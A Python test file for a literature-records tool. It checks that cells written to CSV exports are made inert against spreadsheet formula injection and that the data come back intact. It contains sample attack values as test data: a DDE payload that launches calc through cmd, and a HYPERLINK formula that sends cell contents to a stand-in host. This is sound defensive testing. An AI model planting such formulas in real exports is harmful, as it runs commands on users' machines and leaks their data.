"""No cell of a CSV file that the program writes is run by a spreadsheet, and the data come back."""

from __future__ import annotations

import ast
import csv
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evidence.deduplication.files import deduplicate_files
from evidence.ranking import RankedRecord, write_ranking
from evidence.searching.batch import Outcome, write_summary
from indexers.records import Record
from indexers.references import read_records, write_records
from indexers.spreadsheet_cells import inert_cell, text_of_cell

ROOT = Path(__file__).resolve().parent.parent.parent
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
CALL = '=HYPERLINK("http://x/?"&A1,"1")'
# What is in the cells is a name made safe for a file, or a number.
_WITHOUT_TEXT = {"evidence/searching/batch_report.py"}


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def hostile(sign: str, number: int = 1) -> Record:
    text = f"{sign}1+cmd|' /C calc'!A{number}"
    return Record(
        record_id=text.strip(),
        source=text,
        title=text,
        abstract=text,
        authors=(text, "B"),
        doi=text,
    )


@pytest.mark.parametrize("sign", SIGNS)
def test_records_as_csv(tmp_path: Path, sign: str) -> None:
    write_records([hostile(sign)], tmp_path / "records.csv")
    assert not any(cell.startswith(SIGNS) for cell in cells(tmp_path / "records.csv"))


@pytest.mark.parametrize("form", ["csv", "ris", "nbib", "bib", "xml", "jsonl"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "'=", "''"])
def test_a_title_and_an_author_come_back_from_every_format(
    tmp_path: Path, sign: str, form: str
) -> None:
    made = Record(record_id="r1", source="s", title=f"{sign}1+1 trial", authors=(f"{sign}A",))
    write_records([made], tmp_path / f"records.{form}")
    (read,) = read_records(tmp_path / f"records.{form}")
    assert (read.title, read.authors) == (made.title, made.authors)
    if form in ("ris", "nbib"):
        # A reference manager reads these, no spreadsheet: nothing is put before the text.
        assert f"- {sign}1+1 trial" in (tmp_path / f"records.{form}").read_text(encoding="utf-8")


@given(st.text(alphabet=st.sampled_from(["'", *SIGNS, "a"]), max_size=6))
def test_a_cell_comes_back_and_is_inert(text: str) -> None:
    assert text_of_cell(inert_cell(text)) == text
    assert not inert_cell(text).startswith(SIGNS)


def test_ranking_and_summary_and_duplicates(tmp_path: Path) -> None:
    ranked = RankedRecord(
        rank=1, record_id=CALL, score=0.5, title=CALL, parts={"meaning": 0.5}, verdicts={}
    )
    write_ranking([ranked], tmp_path / "ranking.csv")
    outcome = Outcome(
        name="q",
        query=CALL,
        syntax="natural",
        limit=None,
        searched_on=date(2026, 1, 1),
        input_digest="0",
        error=CALL,
    )
    write_summary(tmp_path, [outcome])
    records = [hostile("=", n).model_copy(update={"title": CALL * 3}) for n in (1, 2)]
    write_records(records, tmp_path / "in.csv")
    deduplicate_files([tmp_path / "in.csv"], tmp_path / "out.csv", tmp_path / "duplicates.csv")
    for name in ("ranking.csv", "summary.csv", "out.csv", "duplicates.csv"):
        written = cells(tmp_path / name)
        assert any(cell.startswith("'=") for cell in written), name
        assert not any(cell.startswith(SIGNS) for cell in written), name


def test_every_module_that_writes_csv_makes_its_cells_inert() -> None:
    writers = set()
    for folder in ("indexers", "retrievers", "evidence"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if {"csv.writer", "csv.DictWriter"} & set(map(ast.unparse, attributes(path))):
                writers.add(str(path.relative_to(ROOT)))
    assert len(writers) >= 7
    for place in sorted(writers - _WITHOUT_TEXT):
        calls = {n.id for n in ast.walk(tree(ROOT / place)) if isinstance(n, ast.Name)}
        assert "inert_cell" in calls, place


def attributes(path: Path) -> list[ast.Attribute]:
    return [node for node in ast.walk(tree(path)) if isinstance(node, ast.Attribute)]


def tree(path: Path) -> ast.Module:
    return ast.parse(path.read_text(encoding="utf-8"))
